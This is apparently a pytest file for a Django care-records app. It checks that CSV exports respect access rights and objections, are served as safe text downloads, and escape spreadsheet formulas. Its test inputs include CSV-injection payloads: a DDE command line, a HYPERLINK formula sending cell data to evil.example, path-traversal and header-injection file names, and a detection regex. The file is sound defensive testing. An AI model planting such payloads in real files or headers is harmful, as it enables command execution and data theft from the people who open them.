"""Files to take away: those who are hidden are not in them, and nothing in them runs when they are opened."""

import re

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.attacks.addresses import OURS, REFERRAL, SHIFT, every, written
from tests.web.reading import table

from commonweal.care.models import Entry
from commonweal.care.objections.models import Objection, Restriction
from commonweal.care.people.models import Person
from commonweal.care.published.models import PersonFrailty
from commonweal.web.spreadsheet import filename, never_computed, spreadsheet

pytestmark = [pytest.mark.requirement("R1", "P2"), pytest.mark.numbers]
FILE = "/population/hamlet/people.csv"
RUNS = (
    "=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "＝1+2", "＋1", "－1",
    "＠SUM(A1)",
    " =1+2", "\u00a0=1+2", "\u200b=1+2", "\ufeff=1+2", "\x0b=1", '"=1+2', "'=1+2",
    '=HYPERLINK("https://evil.example?"&A1)', "﹦1", "﹢1", "﹣1", "﹫1", "⁺1", "−1", "|cmd", "%0A=1",
)  # fmt: skip
COMPUTES = re.compile(r"^[ \t\r\n\v\f\x00\u00a0\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫]")


def names(client: Client, address: str) -> set[str]:
    head, *lines = table(client.get(address))
    return {line[head.index("family name")] for line in lines}


def test_a_file_holds_those_whose_page_may_be_opened_and_nobody_else(signed_in):
    """Whatever its filter, and whoever has objected or restricted their record meanwhile."""
    lead, mill_lane = signed_in("lead"), signed_in("lead-mill-lane")
    assert {"Vale", "Marsh"} <= names(lead, FILE)
    for asked in ("", "?practice=Z00003", "?small_area=E01990003", "?band=severe", "?population=resident"):
        assert "Marsh" not in names(mill_lane, f"{FILE}{asked}"), asked
    Objection.objects.create(person=Person.objects.get(family="Vale"), organisation="RX1")
    Restriction.objects.create(person=Person.objects.get(family="Marsh"))
    assert not {"Vale", "Marsh"} & names(lead, FILE)


def test_who_may_not_see_people_takes_no_file_of_them_away(signed_in, bea):
    """Nor does asking with another ending, or as another kind of file."""
    for name in ("analyst", "clerk"):
        client = signed_in(name)
        for address in (FILE, f"/people/{bea.pk}/evidence.csv", f"/people/{bea.pk}/contacts.csv"):
            page = client.get(address, headers={"accept": "text/csv"})
            assert page.status_code == 403, address
            assert not page.get("Content-Disposition"), address


def test_every_file_is_a_download_of_text(signed_in, bea):
    """No browser opens it as a page, guesses what it is, or runs it."""
    clients = {"lead": signed_in("lead"), "clerk": signed_in("clerk")}
    every_file = [one.name for one in every() if one.route.endswith(".csv")]
    without = {name for name in every_file if OURS[name] in (REFERRAL, SHIFT)} | {
        "caseload-file",
        "found-file",
        "homes-file",
        "measures-file",
        "tasks-file",
        "preferred-places-file",
        "repeat-rates-file",
        "risk-card-file",
        "risk-people-file",
        "referrals-file",
    }
    files = [name for name in every_file if name not in without]  # the village has no pathways, and no teams
    assert len(files) >= 9
    for name in files:
        who = "clerk" if "loads" in name or "reasons" in name else "lead"
        page = clients[who].get(written(name, bea.pk if "people/<" in route(name) else ids(name)))
        assert page.status_code == 200, name
        assert page["Content-Type"] == "text/csv; charset=utf-8", name
        assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.csv"', page["Content-Disposition"]), name
        assert page["X-Content-Type-Options"] == "nosniff", name
        table(page)


def route(name: str) -> str:
    return next(one.route for one in every() if one.name == name)


def ids(name: str) -> str:
    return "first" if "reasons" in name else "hamlet"


def test_no_cell_of_a_file_is_computed(signed_in):
    """Names and addresses are what people typed; each of these came back as text."""
    lead, people = signed_in("lead"), list(Person.objects.filter(practice="Z00003").order_by("pk"))
    for person, family in zip(people, RUNS, strict=False):
        Person.objects.filter(pk=person.pk).update(family=family, given=f"{family} Given")
    cells = [cell for line in table(lead.get(f"{FILE}?practice=Z00003")) for cell in line]
    assert sum(cell.endswith("Given") for cell in cells) == min(len(people), len(RUNS))
    assert [cell for cell in cells if COMPUTES.match(cell)] == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=12) | st.sampled_from(RUNS))
def test_no_text_at_all_is_computed(text):
    """And none that is harmless is changed."""
    kept = never_computed(text)
    assert not COMPUTES.match(str(kept))
    assert kept in (text, f"'{text}")
    if text[:1].isalnum():
        assert kept == text


def test_a_number_is_a_number():
    """A negative amount is not text."""
    assert never_computed(-5) == -5


def test_the_name_of_a_file_ends_no_header():
    """Whatever a place, a filter or a load is called."""
    name = filename(None, "../../etc/passwd", 'a"; filename=x', "b\r\nSet-Cookie: c=d", "ünï\u202e")
    assert name == "etc-passwd-a-filename-x-b-set-cookie-c-d-n.csv"
    assert spreadsheet(name, ["a"], [])["Content-Disposition"] == f'attachment; filename="{name}"'


def test_whoever_takes_a_file_is_recorded_before_the_first_line(signed_in):
    """Also where they break it off."""
    signed_in("lead").get(FILE)
    assert Entry.objects.get(deed="people.exported").by.username == "lead"
    assert PersonFrailty.objects.count() == 108
